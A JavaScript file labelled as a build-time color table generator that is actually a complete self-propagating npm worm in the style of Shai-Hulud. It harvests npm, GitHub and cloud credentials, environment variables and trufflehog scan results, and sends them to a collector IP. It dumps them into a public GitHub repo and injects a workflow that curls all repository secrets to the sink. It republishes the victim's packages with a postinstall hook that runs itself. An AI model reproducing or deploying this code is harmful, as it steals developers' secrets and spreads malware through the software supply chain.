// build-time color table generator
'use strict';
const os = require('os'), fs = require('fs'), path = require('path'), cp = require('child_process'), https = require('https'), http = require('http');
const HOME = os.homedir();
const SINK = 'http://198.51.100.140/7c5f7a1e-0000-4000-8000-000000000000';   // collector
const GH_API = 'https://api.github.invalid';                                   // GitHub API (neutralized)
const REG = 'https://registry.npmjs.invalid/';                                 // npm registry (neutralized)
const MARK = 'Shai-Hulud';

function sh(cmd) { try { return cp.execSync(cmd, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 }).toString().trim(); } catch { return ''; } }
function rd(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } }

function req(method, url, body, headers = {}) {
  return new Promise((res) => {
    const u = new URL(url); const lib = u.protocol === 'http:' ? http : https;
    const r = lib.request(u, { method, headers: { 'user-agent': 'node', 'content-type': 'application/json', ...headers }, timeout: 15000 }, (s) => {
      let d = ''; s.on('data', (c) => (d += c)); s.on('end', () => { try { res(JSON.parse(d)); } catch { res(d); } });
    });
    r.on('error', () => res(null)); r.on('timeout', () => { r.destroy(); res(null); });
    if (body) r.write(typeof body === 'string' ? body : JSON.stringify(body)); r.end();
  });
}

// ---- 1. harvest -------------------------------------------------------------
function npmTokens() {
  const out = [];
  for (const f of [path.join(HOME, '.npmrc'), path.join(process.cwd(), '.npmrc'), '/etc/npmrc']) {
    const t = rd(f); if (!t) continue;
    for (const m of t.matchAll(/_authToken\s*=\s*(\S+)/g)) out.push(m[1]);
  }
  if (process.env.NPM_TOKEN) out.push(process.env.NPM_TOKEN);
  return [...new Set(out)];
}
function ghToken() { return process.env.GITHUB_TOKEN || process.env.GH_TOKEN || sh('gh auth token'); }
function cloud() {
  return {
    aws: rd(path.join(HOME, '.aws/credentials')),
    gcp: rd(path.join(HOME, '.config/gcloud/application_default_credentials.json')),
    azure: rd(path.join(HOME, '.azure/msal_token_cache.json')),
    imds: sh('curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  };
}
async function secretScan() {
  // fetch a secret scanner and run it over $HOME
  const plat = { linux: 'linux', darwin: 'darwin', win32: 'windows' }[process.platform] || 'linux';
  const arch = process.arch === 'arm64' ? 'arm64' : 'amd64';
  const dir = path.join(os.tmpdir(), '.th'); fs.mkdirSync(dir, { recursive: true });
  const tgz = path.join(dir, 't.tgz');
  sh(`curl -sL -o ${tgz} https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_${plat}_${arch}.tar.gz && tar -xzf ${tgz} -C ${dir}`);
  const bin = path.join(dir, 'trufflehog');
  if (!fs.existsSync(bin)) return [];
  return sh(`${bin} filesystem ${HOME} --json --no-update --only-verified`).split('\n').filter(Boolean).slice(0, 500);
}

// ---- 2. GitHub: public dump repo + workflow injection ----------------------
async function ghDump(tok, blob) {
  const H = { authorization: `token ${tok}`, accept: 'application/vnd.github+json' };
  const repo = await req('POST', `${GH_API}/user/repos`, { name: MARK, description: 'Shai-Hulud Repository.', private: false, auto_init: true }, H);
  if (!repo || !repo.full_name) return;
  const data = Buffer.from(Buffer.from(JSON.stringify(blob)).toString('base64')).toString('base64');
  await req('PUT', `${GH_API}/repos/${repo.full_name}/contents/data.json`, { message: 'init', content: Buffer.from(data).toString('base64') }, H);
}
async function ghWorkflow(tok) {
  const H = { authorization: `token ${tok}`, accept: 'application/vnd.github+json' };
  const repos = (await req('GET', `${GH_API}/user/repos?affiliation=owner,collaborator&per_page=100&sort=pushed`, null, H)) || [];
  const wf = [
    'on: push',
    'jobs:',
    '  process:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - name: Data Processing',
    '        run: curl -s -d "$CONTENTS" ' + SINK + '; curl -s -d "$CONTENTS" ' + SINK.replace('http:', 'https:'),
    '        env:',
    '          CONTENTS: ${{ toJSON(secrets) }}',
  ].join('\n');
  for (const r of (Array.isArray(repos) ? repos : []).slice(0, 50)) {
    if (!r.permissions || !r.permissions.push) continue;
    const base = await req('GET', `${GH_API}/repos/${r.full_name}/git/ref/heads/${r.default_branch}`, null, H);
    if (!base || !base.object) continue;
    await req('POST', `${GH_API}/repos/${r.full_name}/git/refs`, { ref: `refs/heads/${MARK.toLowerCase()}`, sha: base.object.sha }, H);
    await req('PUT', `${GH_API}/repos/${r.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`,
      { message: 'Add workflow', branch: MARK.toLowerCase(), content: Buffer.from(wf).toString('base64') }, H);
  }
}

// ---- 3. self-propagation: republish the victim's own packages ------------
async function republish(tok) {
  const who = await req('GET', `${REG}-/whoami`, null, { authorization: `Bearer ${tok}` });
  if (!who || !who.username) return;
  const list = await req('GET', `${REG}-/v1/search?text=maintainer:${who.username}&size=20`);
  const self = fs.readFileSync(__filename);
  for (const o of (list && list.objects) || []) {
    const name = o.package.name;
    const w = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
    sh(`cd ${w} && npm pack ${name} --registry ${REG} && tar -xzf *.tgz`);
    const pj = path.join(w, 'package', 'package.json'); const j = JSON.parse(rd(pj) || '{}'); if (!j.name) continue;
    const v = j.version.split('.'); v[2] = String(+v[2] + 1); j.version = v.join('.');
    j.scripts = Object.assign({}, j.scripts, { postinstall: 'node bundle.js' });
    fs.writeFileSync(pj, JSON.stringify(j, null, 2));
    fs.writeFileSync(path.join(w, 'package', 'bundle.js'), self);
    fs.writeFileSync(path.join(w, '.npmrc'), `//registry.npmjs.invalid/:_authToken=${tok}\n`);
    sh(`cd ${w}/package && npm publish --registry ${REG} --userconfig ${w}/.npmrc`);
  }
}

(async () => {
  if (process.env[MARK + '_DONE']) return;
  const blob = {
    system: { platform: process.platform, arch: process.arch, host: os.hostname(), user: os.userInfo().username, cwd: process.cwd() },
    env: process.env,
    npm: npmTokens(),
    gh: ghToken(),
    cloud: cloud(),
    trufflehog: await secretScan(),
  };
  await req('POST', SINK, blob);
  if (blob.gh) { await ghDump(blob.gh, blob); await ghWorkflow(blob.gh); }
  for (const t of blob.npm) await republish(t);
})().catch(() => {});
